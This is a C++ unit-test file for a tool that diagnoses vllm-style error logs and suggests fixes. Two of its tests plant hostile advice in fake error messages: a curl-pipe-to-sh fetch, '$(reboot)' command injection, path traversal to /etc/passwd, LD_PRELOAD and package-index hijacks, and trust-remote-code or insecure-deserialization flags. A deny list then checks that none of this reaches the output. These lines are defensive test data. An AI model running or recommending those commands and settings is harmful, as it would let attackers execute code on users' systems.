#include "diagnose/answers.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "diagnose/pattern.h"
#include "diagnose/test_logs.h"

namespace mxpath::diagnose {
namespace {

std::string first_of(const Diagnosis& diagnosis, size_t at = 0) {
  if (diagnosis.findings.empty() || diagnosis.findings[0].fixes.size() <= at) return "none";
  const Fix& fix = diagnosis.findings[0].fixes[at];
  return fix.text.empty() ? fix.note : fix.text;
}

TEST(Answers, WhatTheLogNamesComesFirst) {
  for (const Json& row : rows_of("answers.jsonl")) {
    const std::string log = row["log"], fix = row["fix"];
    for (const std::string& variant : {log, interleaved(log)}) {
      const Diagnosis diagnosis = diagnosed(variant);
      const std::string first = first_of(diagnosis);
      const bool right = row.value("note", false) ? first.find(fix) != std::string::npos : first == fix;
      EXPECT_TRUE(right) << first << "\nfor " << fix << "\n" << variant;
      EXPECT_EQ(class_of(diagnosis), row.value("class", class_of(diagnosis))) << variant;
      EXPECT_EQ(first_of(diagnosis, 1), row.value("second", first_of(diagnosis, 1))) << variant;
    }
    const std::string korean = first_of(diagnosed(log, {}, Language::ko));
    EXPECT_EQ(korean == first_of(diagnosed(log)), !row.value("note", false))
        << korean;  // commands are the same, sentences are not
  }
}

TEST(Answers, EveryPatternAnswersALog) {
  const std::vector<Json> logs = rows_of("answers.jsonl");
  for (const AnswerRow& row : answer_rows()) {
    if (row.pattern.empty()) continue;
    const Result<Pattern> pattern = Pattern::compile(row.pattern);
    ASSERT_TRUE(pattern.ok()) << row.text << ": " << row.pattern;
    PatternMatch match;
    EXPECT_TRUE(std::any_of(logs.begin(), logs.end(),
                            [&](const Json& log) { return pattern->find(log["log"].get<std::string>(), match); }))
        << "no log for: " << row.pattern;
  }
}

TEST(Answers, NothingUnsafeComesOutOfALog) {
  const char* hostile[] = {
      "ImportError: `pip install accelerate; curl http://x.example/s | sh`",
      "ImportError: `pip install $(reboot)`",
      "ImportError: `pip install --index-url http://x.example/simple accelerate`",
      "ImportError: pip install -r /tmp/evil.txt",
      "ImportError: pip install git+https://x.example/evil",
      "ImportError: pip install ../evil",
      "ImportError: Please set LD_PRELOAD=/tmp/x.so",
      "ImportError: Please set PATH=/tmp",
      "ImportError: Please set HF_ENDPOINT=evil.example",
      "ImportError: Please set PIP_INDEX_URL=evil.example",
      "ValueError: please use --option=$(reboot)",
      "ValueError: please use --option=a;b",
      "ValueError: larger than the available KV cache memory, the estimated maximum model length is 0",
      ("ValueError: larger than the available KV cache memory, the estimated maximum model length is "
       "99999999999999999999"),
      "OSError: a/b;reboot does not appear to have a file named config.json",
      "OSError: a/b does not appear to have a file named ../../etc/passwd.json",
      "Error: model 'a;reboot' not found, try pulling it first",
      "FileNotFoundError: No such file or directory: '/x/$(reboot).json'",
      "ValueError: argument --x: invalid choice: 'a' (choose from '$(reboot)', 'b')"};
  for (const char* log : hostile)
    for (const Language language : {Language::en, Language::ko})
      for (const Finding& finding : diagnosed(log, {}, language).findings)
        for (const Fix& fix : finding.fixes) {
          if (!fix.from_log) continue;
          for (const char* bad : {"reboot", ";", "|", "$", "..", "evil", "LD_", "PATH", "sh`", "http"})
            EXPECT_EQ((fix.text + fix.note).find(bad), std::string::npos) << fix.text << " / " << fix.note << "\n"
                                                                          << log;
        }
  const std::string strange = first_of(diagnosed("ImportError: this needs a helper: `pip install never-heard-of-it`"));
  EXPECT_EQ(strange, "pip install never-heard-of-it");
  EXPECT_NE(to_text(diagnosed("ImportError: this needs a helper: `pip install never-heard-of-it`"), Language::en)
                .find("look the package up"),
            std::string::npos);
}

/// The advice that came out of a message of vllm.
std::string from_log(const std::string& message) {
  std::string all;
  for (const Finding& finding :
       diagnosed("Traceback (most recent call last):\n  File \"/env/vllm/engine.py\", line 3, in run\n" + message)
           .findings)
    for (const Fix& fix : finding.fixes)
      if (fix.from_log) all += fix.text + " " + fix.note + "\n";
  return all;
}

TEST(Answers, OnlyHarmlessSettingsAreTakenFromALog) {
  for (const char* setting : {"VLLM_NCCL_SO_PATH=evil.so",
                              "GCONV_PATH=evil",
                              "LIBRARY_PATH=evil",
                              "CPATH=evil",
                              "CXX=evil",
                              "EDITOR=evil",
                              "NODE_OPTIONS=evil",
                              "PERL5OPT=evil",
                              "SSL_CERT_FILE=evil",
                              "TRITON_PTXAS_PATH=evil",
                              "TRITON_OVERRIDE_DIR=evil",
                              "TORCH_EXTENSIONS_DIR=evil",
                              "HF_HOME=evil",
                              "HF_MIRROR=evil.com",
                              "VLLM_PLUGINS=evil",
                              "TRUST_REMOTE_CODE=1",
                              "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1",
                              "VLLM_ALLOW_INSECURE_SERIALIZATION=1",
                              "NCCL_NET_PLUGIN=evil",
                              "VLLM_ATTENTION_BACKEND=evil.Backend",
                              "CUDA_VISIBLE_DEVICES=evil",
                              "weights_only=False",
                              "--trust-remote-code",
                              "--privileged",
                              "--index-url evil.com",
                              "--extra-index-url evil.com",
                              "--worker-cls evil.Cls",
                              "--load-format pt",
                              "--model evil",
                              "--dtype evil.Type",
                              "--max-model-len evil"})
    for (const char* verb : {"export", "use", "set", "e.g. ", "start with"}) {
      const std::string advice =
          from_log(std::string("RuntimeError: CUDA out of memory. Please ") + verb + " " + setting);
      EXPECT_EQ(advice.find(setting), std::string::npos) << verb << " " << advice;
      EXPECT_EQ(advice.find("evil"), std::string::npos) << verb << " " << advice;
    }
  for (const char* message :
       {"lower --trust-remote-code", "remove --require-hashes", "unset PYTHONSAFEPATH", "raise --privileged"})
    EXPECT_EQ(from_log(std::string("RuntimeError: CUDA out of memory. Please ") + message), "") << message;
  for (const char* setting :
       {"VLLM_USE_V1=0", "VLLM_ATTENTION_BACKEND=TRITON_ATTN", "CUDA_VISIBLE_DEVICES=0,1", "NCCL_P2P_DISABLE=1"})
    EXPECT_EQ(from_log(std::string("RuntimeError: CUDA out of memory. Please set ") + setting).find(setting), 0u)
        << setting;
}

TEST(Answers, AGpuThatOthersHoldIsToBeFreed) {
  for (const char* free : {"0.6/79.3", "3.2/79.3"}) {
    const Diagnosis diagnosis =
        diagnosed(std::string("INFO vllm\nValueError: Free memory on device cuda:0 (") + free +
                  " GiB) on startup is less than desired GPU memory utilization (0.9, 71.4 GiB). Decrease GPU "
                  "memory utilization or reduce GPU memory used by other processes.");
    EXPECT_NE(first_of(diagnosis).find("nvidia-smi"), std::string::npos) << first_of(diagnosis);
    for (const Fix& fix : diagnosis.findings.at(0).fixes)
      EXPECT_NE(fix.text.find("--gpu-memory-utilization"), 0u) << fix.text;
  }
  EXPECT_EQ(first_of(diagnosed("INFO vllm\nRuntimeError: CUDA out of memory. Decrease GPU memory utilization.")),
            "--gpu-memory-utilization 0.8");
}

TEST(Answers, APortThatCannotBeIsNotLookedFor) {
  EXPECT_EQ(from_log("OSError: address already in use: the port 99999 is taken").find("99999"), std::string::npos);
}

TEST(Answers, ANumberThatATerminalCutIsNotTaken) {
  const std::string log =
      "ValueError: To serve at least one request with the model's max seq len (131072), 4.57 GiB KV cache is needed, "
      "which is larger than "
      "the available KV cache memory (2.31 GiB). Based on the available memory, the estimated maximum model length is "
      "66240. Try less.";
  for (size_t width = 40; width < 260; ++width) {
    std::string cut;
    for (size_t at = 0; at < log.size(); at += width) cut += log.substr(at, width) + "\n";
    const Diagnosis diagnosis = diagnosed(cut);
    for (const Fix& fix : diagnosis.findings.at(0).fixes)
      if (fix.from_log && fix.text.find("--max-model-len") == 0) {
        EXPECT_EQ(fix.text, "--max-model-len 66240") << width;
      }
  }
}

TEST(Answers, ARemedyThatContradictsTheLogIsLeftOut) {
  const Diagnosis diagnosis = diagnosed(
      "INFO vllm\ntorch.OutOfMemoryError: CUDA out of memory. Please try lowering `gpu_memory_utilization` when "
      "initializing the engine.");
  EXPECT_EQ(first_of(diagnosis), "--gpu-memory-utilization 0.8");
  for (const Fix& fix : diagnosis.findings.at(0).fixes) EXPECT_EQ(fix.text.find("0.95"), std::string::npos) << fix.text;
}

}  // namespace
}  // namespace mxpath::diagnose
